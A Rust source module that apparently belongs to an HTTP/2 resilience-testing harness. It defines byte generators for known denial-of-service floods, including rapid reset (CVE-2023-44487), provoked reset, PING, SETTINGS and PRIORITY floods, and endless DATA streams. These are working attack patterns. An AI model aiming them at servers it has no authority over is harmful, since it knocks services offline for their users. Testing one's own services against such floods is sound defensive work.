//! Frames that cost the service more than the client.

use super::{
    Abuse, FLOOD,
    client::{Target, Then, stream},
};
use crate::support::http2::{DATA, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, encoded};

/// CANCEL (RFC 9113, section 7).
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// SETTINGS_HEADER_TABLE_SIZE of 0 and of 4,096 (RFC 9113, section 6.5.2).
const TABLE_SIZES: [[u8; 6]; 2] = [[0, 1, 0, 0, 0, 0], [0, 1, 0, 0, 16, 0]];

/// A type of frame that is not defined.
const UNKNOWN: u8 = 0xfa;

pub(super) const ABUSES: &[Abuse] = &[
    Abuse {
        name: "rapid-reset",
        title: "begins calls and resets them immediately (CVE-2023-44487)",
        bytes: |target, number| [target.call(number), encoded(RST_STREAM, 0, stream(number), &CANCEL)].concat(),
        ..FLOOD
    },
    Abuse {
        name: "provoked-reset",
        title: "makes the service reset calls, with window updates of 0 (CVE-2025-8671)",
        bytes: |target, number| [target.call(number), encoded(WINDOW_UPDATE, 0, stream(number), &[0; 4])].concat(),
        ..FLOOD
    },
    Abuse {
        name: "ping-flood",
        title: "sends PING frames (CVE-2019-9512)",
        bytes: |_, number| encoded(PING, 0, 0, &u64::from(number).to_be_bytes()),
        ..FLOOD
    },
    Abuse {
        name: "ping-flood-unread",
        title: "sends PING frames and reads no answer (CVE-2019-9512)",
        bytes: |_, number| encoded(PING, 0, 0, &u64::from(number).to_be_bytes()),
        then: Then::RepeatUnread,
        ..FLOOD
    },
    Abuse {
        name: "settings-flood",
        title: "sends SETTINGS frames with other sizes of the header table (CVE-2019-9515)",
        bytes: settings,
        ..FLOOD
    },
    Abuse {
        name: "settings-flood-unread",
        title: "sends the same and reads no answer (CVE-2019-9515)",
        bytes: settings,
        then: Then::RepeatUnread,
        ..FLOOD
    },
    Abuse {
        name: "priority-flood",
        title: "sends PRIORITY frames of streams that do not exist (CVE-2019-9513)",
        bytes: |_, number| encoded(PRIORITY, 0, stream(number), &[0, 0, 0, 0, 1]),
        ..FLOOD
    },
    Abuse {
        name: "window-update-flood",
        title: "sends window updates of 1 byte",
        bytes: |_, _| encoded(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        ..FLOOD
    },
    Abuse {
        name: "unknown-frame-flood",
        title: "sends frames of an unknown type",
        bytes: |_, _| encoded(UNKNOWN, 0, 0, &[0; 64]),
        ..FLOOD
    },
    Abuse {
        name: "empty-data-flood",
        title: "sends empty DATA frames that do not end the message (CVE-2019-9518)",
        bytes: |target, number| data(target, number, &[]),
        ..FLOOD
    },
    Abuse {
        name: "small-data-flood",
        title: "sends DATA frames of 1 byte, in messages that do not end",
        bytes: |target, number| data(target, number, &[0]),
        ..FLOOD
    },
];

fn settings(_: &Target, number: u32) -> Vec<u8> {
    encoded(SETTINGS, 0, 0, &TABLE_SIZES[number as usize % 2])
}

/// A call of 100 frames without an end.
fn data(target: &Target, number: u32, payload: &[u8]) -> Vec<u8> {
    let call = number / 100;
    match number % 100 {
        0 => target.call(call),
        _ => encoded(DATA, 0, stream(call), payload),
    }
}
